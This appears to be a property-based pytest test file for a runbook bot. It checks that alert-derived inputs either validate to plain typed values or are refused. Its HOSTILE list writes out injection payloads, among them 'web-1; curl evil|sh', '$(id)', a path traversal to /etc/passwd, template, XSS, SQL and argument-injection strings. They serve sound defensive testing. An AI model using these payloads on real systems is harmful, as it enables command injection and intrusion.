"""Whatever an alert says: an input that is checked holds a plain value of its type, or the run does not begin."""

import ipaddress
import re
from datetime import UTC, datetime

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from bot.documents import parse_duration
from bot.errors import NotAllowed
from bot.model.alert import Alert
from bot.model.labels import LabelSet
from bot.model.runbook import Input, InputType, Runbook
from bot.runbooks.inputs import resolve
from bot.runbooks.templates import Filling, TemplateFailed, render

NOW = datetime(2026, 11, 22, tzinfo=UTC)
HOSTILE = [
    "web-1; curl evil|sh", "$(id)", "`id`", "-oProxyCommand=x", "--kubeconfig=/x", "../../etc/passwd", "\n- name: x",
    "{{7*7}}", "<img src=x onerror=alert(1)>", "=cmd|'/c calc'!A1", "<!channel>", "\x1b]0;x\x07", "a\r\nb", "a\0b",
    "\u202eevil", "*)(uid=*", "' OR 1=1--", '"} or vector(1)', "| delete", "A" * 4096, "\ud800", "fe80::1%$(id)", "-1",
    "[::1]:22;id", "web1:9100:9100", "\u0661\u0662", "web1\n", "\u0130", "\uff41",
]  # fmt: skip
ODD = ["1_000", "1e3", "0x10", "a..b", "a-", ""]
"""Fit some types and not others."""
TYPES = [
    Input(name="x", type=InputType.HOST),
    Input(name="x", type=InputType.HOSTNAME),
    Input(name="x", type=InputType.K8S_NAME),
    Input(name="x", type=InputType.ENUM, values=("slow", "fast")),
    Input(name="x", type=InputType.INT, most=100),
    Input(name="x", type=InputType.DURATION),
    Input(name="x", pattern=r"[^ ]*"),
]
CONTROL = re.compile(r"[\x00-\x1f\x7f-\x9f\u202a-\u202e\ud800-\udfff]")
PLAIN = re.compile(r"[A-Za-z0-9_.:-]*")
words = st.text(st.characters(codec=None), max_size=300) | st.sampled_from([*HOSTILE, *ODD])
near = st.from_regex(r"\A[-a-z0-9.:\[\]]{0,12}\Z") | st.integers().map(str)


def begun(one: Input, value: str) -> str | None:
    """The value that steps get; None when the run does not begin."""
    runbook = Runbook(name="r", title="t", file="r", hash="", steps=(), inputs=(one,))
    try:
        return resolve(runbook, {"x": value}, None, None)["x"]
    except NotAllowed:
        return None


def is_of_its_type(one: Input, value: str) -> bool:
    match one.type:
        case InputType.ENUM:
            return value in one.values
        case InputType.INT:
            return value == str(int(value)) and 0 <= int(value) <= 100
        case InputType.DURATION:
            return parse_duration(value) is not None
        case InputType.K8S_NAME:
            return value == value.lower() and ".." not in value and len(value) <= 253
        case InputType.HOST | InputType.HOSTNAME if ":" in value:
            return bool(ipaddress.ip_address(value))
        case _:
            return True


@pytest.mark.parametrize("one", TYPES, ids=lambda one: f"{one.type}{one.pattern}")
@given(value=words | near)
@example(value="web1:9100")
@example(value="[::1]:9100")
@example(value="007")
def test_what_is_checked_is_plain_or_the_run_does_not_begin(one: Input, value: str) -> None:
    made = begun(one, value)
    if made is None:
        return
    assert made
    assert not made.startswith("-")
    assert not CONTROL.search(made)
    assert is_of_its_type(one, made)
    if not one.pattern:
        assert PLAIN.fullmatch(made)


@pytest.mark.parametrize("one", TYPES[:-1], ids=lambda one: one.type)
@pytest.mark.parametrize("value", HOSTILE)
def test_no_hostile_text_fits_a_type(one: Input, value: str) -> None:
    assert begun(one, value) is None


@given(value=words)
def test_a_text_arrives_as_it_is_and_is_never_a_template(value: str) -> None:
    one = Input(name="x", source="alert.labels.x", required=False)
    runbook = Runbook(name="r", title="t", file="r", hash="", steps=(), inputs=(one,))
    alert = Alert(labels=LabelSet({"x": value}), annotations={}, starts_at=NOW)
    try:
        made = resolve(runbook, {}, alert, None)["x"]
    except NotAllowed:
        assert "\0" in value
        return
    assert made == value
    assert render("{{ inputs.x }}", {"inputs": {"x": made}}) == value


@given(value=words | near)
def test_what_is_filled_in_as_syntax_is_one_plain_word_or_refused(value: str) -> None:
    try:
        made = render("a={{ x }}", {"x": value}, Filling.SYNTAX)
    except TemplateFailed:
        assert value.startswith("-") or not value.isprintable()
        return
    assert made == f"a={value}"
    assert not value.startswith("-")
    assert not CONTROL.search(made)
